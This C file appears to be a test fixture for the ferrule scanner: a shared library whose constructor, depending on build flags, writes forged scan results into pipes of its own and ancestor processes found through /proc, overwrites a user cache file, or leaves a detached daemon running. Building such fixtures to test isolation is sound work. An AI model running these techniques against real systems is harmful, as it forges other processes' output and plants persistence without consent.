/* A library that attacks `ferrule.scan` from its static constructor, which
 * the scan worker runs when it opens the library. One attack per build:
 *   -DATTACK_FORGE  write a forged result for VICTIM (a path) into every pipe
 *                   it can reach: its own fds and those of the scan worker and
 *                   the scanning process (a command line with ferrule-scan-target)
 *   -DATTACK_CACHE  plant a file at CACHE (a path in the user's cache directory)
 *   -DATTACK_DAEMON leave a setsid daemon named ferrule-daemon behind */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

#ifndef VICTIM
#define VICTIM "/nonexistent/libvictim.so"
#endif
#ifndef CACHE
#define CACHE "/nonexistent/cache.json"
#endif

#ifdef ATTACK_FORGE
static const char forged[] =
    "{\"start\": \"" VICTIM "\"}\n"
    "{\"rejected\": {\"error\": \"ForgedError\", \"message\": \"forged by the attacker\", \"cache\": true}}\n";

static int is_pipe(const char *path) {
    struct stat st;
    return stat(path, &st) == 0 && S_ISFIFO(st.st_mode);
}

/* Write the forgery into every pipe among /proc/PID/fd/. */
static void spray(pid_t pid) {
    char dir[64];
    snprintf(dir, sizeof dir, "/proc/%d/fd", (int)pid);
    DIR *d = opendir(dir);
    if (d == NULL) return;
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.') continue;
        char path[400];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        if (!is_pipe(path)) continue;
        int fd = open(path, O_WRONLY | O_NONBLOCK);
        if (fd < 0) continue;
        (void)!write(fd, forged, sizeof forged - 1);
        close(fd);
    }
    closedir(d);
}

/* /proc/PID/NAME into buf (NUL-terminated); its length, or 0. */
static ssize_t read_proc(pid_t pid, const char *name, char *buf, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", (int)pid, name);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, size - 1);
    close(fd);
    if (n <= 0) return 0;
    buf[n] = 0;
    return n;
}

static pid_t parent_of(pid_t pid) {
    char buf[512];
    int ppid = 0;
    if (!read_proc(pid, "stat", buf, sizeof buf)) return 0;
    char *end = strrchr(buf, ')');
    if (end == NULL || sscanf(end + 2, "%*c %d", &ppid) != 1) return 0;
    return ppid;
}

static int scans(pid_t pid) {
    char buf[4096];
    ssize_t n = read_proc(pid, "cmdline", buf, sizeof buf);
    if (n == 0) return 0;
    for (ssize_t i = 0; i < n; i++) if (buf[i] == 0) buf[i] = ' ';
    return strstr(buf, "ferrule._scan.worker") != NULL || strstr(buf, "ferrule-scan-target") != NULL;
}

__attribute__((constructor)) static void attack(void) {
    for (int fd = 3; fd < 1024; fd++) {  /* its own fds first */
        (void)!write(fd, forged, sizeof forged - 1);
    }
    /* Its ancestors that scan: the worker and the scanning process (the test
     * marks it), and no further (the test runner's own pipes). */
    for (pid_t pid = getppid(); pid > 1 && scans(pid); pid = parent_of(pid)) {
        spray(pid);
    }
}
#endif

#ifdef ATTACK_CACHE
__attribute__((constructor)) static void attack(void) {
    int fd = open(CACHE, O_WRONLY | O_TRUNC | O_CREAT, 0644);
    if (fd < 0) return;
    static const char junk[] = "{\"forged\": true}\n";
    (void)!write(fd, junk, sizeof junk - 1);
    close(fd);
}
#endif

#ifdef ATTACK_DAEMON
__attribute__((constructor)) static void attack(void) {
    pid_t pid = fork();
    if (pid != 0) return;
    setsid();
    if (fork() != 0) _exit(0);
    prctl(PR_SET_NAME, "ferrule-daemon", 0, 0, 0);
    for (int fd = 0; fd < 1024; fd++) close(fd);
    for (;;) pause();
}
#endif

/* Not a plugin: the scan rejects it; what matters is what its constructor did. */
int scan_attacker_marker(void) { return 1; }
